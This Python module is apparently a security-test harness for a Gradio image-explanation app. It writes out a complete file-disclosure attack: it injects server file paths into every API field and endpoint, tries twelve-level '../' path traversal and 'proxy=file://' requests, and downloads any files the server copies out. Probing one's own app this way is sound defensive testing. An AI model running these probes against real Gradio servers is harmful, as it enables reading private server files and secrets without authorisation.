"""An attack on the app over HTTP, which names files of the server wherever a client may send something.

Gradio copies a file that is named in a call to a folder from which it can be downloaded, unless it checks that a user
has uploaded the file. The attack names files in every field of every function, at every address that accepts calls, and
then requests every path that comes back. It also requests the files directly, in every way in which Gradio serves any.
"""

import contextlib
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import httpx

SESSION = "attack12345"
FORM = ("torchvision:squeezenet1_1=random", "relax", "", "", "fast", 20, 2, 0, 2, 64, 0)
"""Values that the page sends when Explain is pressed."""
SHORT = ("relax", "", "fast")
"""Values that the page sends when a method is chosen."""
FUNCTIONS = ((0, (None,)), (1, ()), (2, SHORT), (3, FORM), (4, ()), (5, ()), (6, ()))
CALLED_AT = ("run/predict", "api/predict", "queue/join", "call/predict", "call/v2/predict")
SERVED_AT = ("gradio_api/file=", "file=", "gradio_api/file/", "gradio_api/stream/", "static/", "assets/", "results/")


def open_page(address: str) -> httpx.Client:
    """Return a client that has loaded the page, as a browser does."""
    client = httpx.Client(
        base_url=address.partition("?")[0], timeout=20, follow_redirects=True, headers={"Connection": "close"}
    )
    client.get(address)
    with contextlib.suppress(httpx.TimeoutException), client.stream("GET", f"gradio_api/heartbeat/{SESSION}"):
        pass
    return client


def upload(client: httpx.Client, photo: Path) -> None:
    """Upload a photo in both ways that the app has had, and select it on the page."""
    with photo.open("rb") as file:
        client.post("gradio_api/upload", files={"files": (photo.name, file, "image/jpeg")})
    sent = client.post(
        "photo",
        params={"name": photo.name},
        content=photo.read_bytes(),
        headers={"Content-Type": "application/octet-stream"},
    )
    call(client, "run/predict", 0, [], {"upload": sent.text})


def call(client: httpx.Client, endpoint: str, number: int, data: object, event: object = None) -> str:
    """Call a function of the page, and return everything that the server answers, including events of the session."""
    body = {"data": data, "event_data": event, "fn_index": number, "session_hash": SESSION, "trigger_id": None}
    answer = client.post(f"gradio_api/{endpoint}", json=body).text
    if "event_id" in answer and not answer.startswith("<"):
        with contextlib.suppress(httpx.TimeoutException, json.JSONDecodeError):
            answer += client.get("gradio_api/queue/data", params={"session_hash": SESSION}, timeout=3).text
    return answer


def file_references(path: Path | str) -> list[object]:
    """Return the ways in which a call can name a file."""
    meta = {"_type": "gradio.FileData"}
    return [
        {"path": str(path), "meta": meta},
        {"path": str(path), "url": f"file://{path}", "meta": meta, "is_stream": True},
    ]


def leaks(answer: str, secret: Path) -> bool:
    """Return whether an answer holds what is in the file, or names a copy of the file that the server has made."""
    return secret.read_text() in answer or any(copied.endswith(f"/{secret.name}") for copied in copies(answer))


def copies(answer: str) -> set[str]:
    """Return the paths in an answer that look like those of Gradio's copies of files."""
    return set(re.findall(r"/[^\s\"'<>&\\]*/[0-9a-f]{64}/[^\s\"'<>&\\]+", answer))


def attempts(
    client: httpx.Client, secret: Path, *, before_each: Callable[[], None] = lambda: None
) -> Iterator[tuple[str, str]]:
    """Try every attack; yield its name and everything that came back.

    `before_each` is called before each one.
    """
    for name, attempt in _attacks(client, secret):
        before_each()
        yield name, attempt()


def _attacks(client: httpx.Client, secret: Path) -> Iterator[tuple[str, Callable[[], str]]]:
    """Yield the name of every attack, and a function that tries it and returns everything that came back."""

    def called(endpoint: str, number: int, data: object, event: object = None) -> Callable[[], str]:
        return lambda: with_named_files(client, call(client, endpoint, number, data, event))

    def requested(address: str) -> Callable[[], str]:
        return lambda: client.get(address).text

    for endpoint in CALLED_AT:
        for number, form in FUNCTIONS:
            for place in range(max(1, len(form))):
                data = list(form) or [None]
                for name in file_references(secret)[: 1 if place else 2]:
                    data[place] = name
                    yield f"{endpoint} function {number} field {place}", called(endpoint, number, list(data))
    for number, _ in FUNCTIONS:
        for name in file_references(secret):
            yield f"event of function {number}", called("run/predict", number, [], {"upload": name})
    for server in SERVED_AT:
        for path in (str(secret), str(secret).lstrip("/"), "../" * 12 + str(secret)[1:], quote(str(secret), safe="")):
            yield f"{server}{path}", requested(server + path)
    for address in (
        f"proxy=file://{secret}",
        f"gradio_api/proxy=file://{secret}",
        f"gradio_api/deep_link?session_hash={secret}",
    ):
        yield address, requested(address)


def with_named_files(client: httpx.Client, answer: str) -> str:
    """Return an answer of the server together with the contents of every file that it names."""
    paths = {path.encode().decode("unicode_escape") for path in re.findall(r'"path"\s*:\s*"([^"]+)"', answer)}
    paths |= copies(answer)
    return answer + "".join(client.get(f"gradio_api/file={path}").text for path in sorted(paths))
